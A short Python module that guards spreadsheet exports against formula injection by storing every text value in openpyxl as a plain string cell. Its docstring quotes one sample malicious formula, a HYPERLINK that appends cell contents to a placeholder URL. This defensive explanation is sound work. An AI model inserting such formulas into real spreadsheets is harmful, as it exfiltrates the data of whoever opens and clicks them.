"""Writing spreadsheets that cannot run anything: every text cell is a string cell.

openpyxl turns a string that starts with "=" into a formula, so a memo such as
`=HYPERLINK("http://x"&A1,"Klik")` typed by anyone who can post an entry would become a live
formula in the supervisor's Excel (formula injection, CWE-1236). Every openpyxl writer of the
project appends its rows through `append_row`, which stores each str as an inline string cell
(data type "s") with the text intact, never as a formula, whatever it starts with. Numbers stay
numbers (`int` cells).
"""

from collections.abc import Iterable
from typing import Any

STRING = "s"


def append_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Append `values` as the next row of the openpyxl worksheet `sheet`, text as text.
    Returns the row's cells."""
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    cells = [sheet.cell(row=row, column=column) for column in range(1, len(values) + 1)]
    for cell, value in zip(cells, values, strict=True):
        if isinstance(value, str):
            set_text(cell, value)
    return cells


def set_text(cell: Any, value: str) -> None:
    """Store `value` in `cell` as a string cell (never a formula)."""
    cell.value = value
    cell.data_type = STRING
